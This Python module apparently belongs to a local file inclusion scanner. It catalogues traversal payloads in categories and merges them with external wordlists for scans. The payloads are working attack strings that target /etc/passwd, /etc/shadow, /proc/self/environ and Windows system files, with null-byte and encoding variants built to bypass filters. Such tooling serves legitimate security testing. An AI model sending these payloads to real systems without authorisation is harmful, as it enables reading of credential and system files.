"""Categorised LFI payload catalog and wordlist merging."""

import re
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Tuple, Union

from lfiscan.core.errors import WordlistUnavailable


@dataclass(frozen=True)
class PayloadCategory:
    id: str
    label: str
    description: str
    payloads: Tuple[str, ...]


PAYLOAD_CATEGORIES: Tuple[PayloadCategory, ...] = (
    PayloadCategory(
        id="basic-traversal",
        label="Basic Traversal",
        description="Simple directory traversal to common sensitive files",
        payloads=(
            "../etc/passwd",
            "../../etc/passwd",
            "../etc/hosts",
            "../../etc/hosts",
            "../proc/self/environ",
            "../../proc/self/environ",
        ),
    ),
    PayloadCategory(
        id="deep-traversal",
        label="Deep Traversal",
        description="Deeper traversal chains for robust path resolution",
        payloads=(
            "../../../../etc/passwd",
            "../../../../../etc/passwd",
            "../../../../etc/hosts",
            "../../../../../etc/hosts",
            "../../../../proc/self/environ",
            "../../../../../proc/self/environ",
            "../../../../windows/win.ini",
            "../../../../../windows/win.ini",
        ),
    ),
    PayloadCategory(
        id="null-byte",
        label="Null Byte Variations",
        description="Null byte suffixes to bypass extensions or filters",
        payloads=(
            "../../etc/passwd%00",
            "../../etc/passwd%2500",
            "../../../../etc/passwd%00",
            "../../../../etc/passwd%2500",
        ),
    ),
    PayloadCategory(
        id="encoding-bypass",
        label="Encoding Bypass",
        description="URL-encoded and double-encoded traversal sequences",
        payloads=(
            "..%2f..%2fetc%2fpasswd",
            "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e/%2e%2e/etc/passwd",
            "..%252f..%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc%c0%afpasswd",
        ),
    ),
    PayloadCategory(
        id="os-linux",
        label="OS-Specific (Linux)",
        description="Linux-specific sensitive files",
        payloads=(
            "/etc/passwd",
            "/etc/shadow",
            "/etc/hosts",
            "/proc/self/environ",
            "/proc/version",
        ),
    ),
    PayloadCategory(
        id="os-windows",
        label="OS-Specific (Windows)",
        description="Windows-specific configuration and hosts files",
        payloads=(
            "C:/Windows/win.ini",
            "C:/windows/win.ini",
            "C:/Windows/System32/drivers/etc/hosts",
            "C:/windows/system32/drivers/etc/hosts",
            "C:/boot.ini",
        ),
    ),
)

CATEGORY_IDS: Tuple[str, ...] = tuple(c.id for c in PAYLOAD_CATEGORIES)

_BY_ID: Dict[str, PayloadCategory] = {c.id: c for c in PAYLOAD_CATEGORIES}

_LINE_SPLIT = re.compile(r"\r?\n")

# path -> parsed payloads, filled once per process
_WORDLIST_CACHE: Dict[str, Tuple[str, ...]] = {}


def get_category(category_id: str) -> PayloadCategory:
    try:
        return _BY_ID[category_id]
    except KeyError:
        raise ValueError(
            f"Unknown payload category {category_id!r} "
            f"(expected one of: {', '.join(CATEGORY_IDS)})") from None


def _dedup(items: Iterable[str]) -> List[str]:
    seen = set()
    uniq = []
    for p in items:
        if p not in seen:
            seen.add(p)
            uniq.append(p)
    return uniq


def build_payload_list(category_ids: Optional[Iterable[str]] = None) -> List[str]:
    """
    Flatten the selected categories into one de-duplicated list.

    Categories are always walked in declaration order, whatever order the
    ids were given in. No ids (None or empty) selects every category.
    """
    if isinstance(category_ids, str):
        category_ids = [category_ids]
    wanted = set(category_ids or ())
    for cid in wanted:
        get_category(cid)

    out = []
    for category in PAYLOAD_CATEGORIES:
        if wanted and category.id not in wanted:
            continue
        out.extend(category.payloads)
    return _dedup(out)


def parse_wordlist(text: str) -> List[str]:
    """Non-blank, non-# lines of a newline-delimited wordlist."""
    payloads = []
    for line in _LINE_SPLIT.split(text or ""):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        payloads.append(line)
    return payloads


def load_wordlist(path: str) -> Tuple[str, ...]:
    """Read a wordlist file. Cached in memory for the life of the process."""
    if path in _WORDLIST_CACHE:
        return _WORDLIST_CACHE[path]
    try:
        with open(path, "r", encoding="utf-8") as f:
            text = f.read()
    except (OSError, UnicodeDecodeError) as exc:
        raise WordlistUnavailable(path, str(exc)) from exc
    payloads = tuple(parse_wordlist(text))
    _WORDLIST_CACHE[path] = payloads
    return payloads


def clear_wordlist_cache():
    _WORDLIST_CACHE.clear()


def merge_payloads(base: Iterable[str], external: Iterable[str]) -> List[str]:
    """Ordered union: every base payload first, then unseen external ones."""
    return _dedup(list(base) + list(external))


def build_scan_payloads(
    category_ids: Optional[Iterable[str]] = None,
    wordlist: Union[str, Iterable[str], None] = None,
    cap: int = 500,
    logger=None,
) -> List[str]:
    """
    Payload list for one scan: the catalog, optionally merged with an
    external wordlist (a file path or an iterable of payload strings),
    truncated to *cap*. An unreadable wordlist is not fatal, the catalog
    alone is used instead.
    """
    if cap < 1:
        raise ValueError("Payload cap must be >= 1.")

    payloads = build_payload_list(category_ids)

    if wordlist is not None:
        try:
            external = load_wordlist(wordlist) if isinstance(wordlist, str) else list(wordlist)
        except WordlistUnavailable as exc:
            if logger:
                logger.warn(f"{exc}; falling back to built-in payloads")
        else:
            payloads = merge_payloads(payloads, external)
            if logger:
                logger.debug(f"Merged {len(external)} wordlist entries "
                             f"→ {len(payloads)} unique payloads")

    return payloads[:cap]
